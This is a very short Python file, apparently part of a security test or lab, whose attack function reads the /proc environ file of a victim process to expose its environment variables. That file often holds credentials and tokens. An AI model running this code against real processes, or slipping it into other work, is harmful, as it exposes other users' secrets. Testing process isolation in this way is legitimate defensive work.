"""Read the environment of another process."""


def attack(target):
    return open(f"/proc/{target.victim}/environ").read()
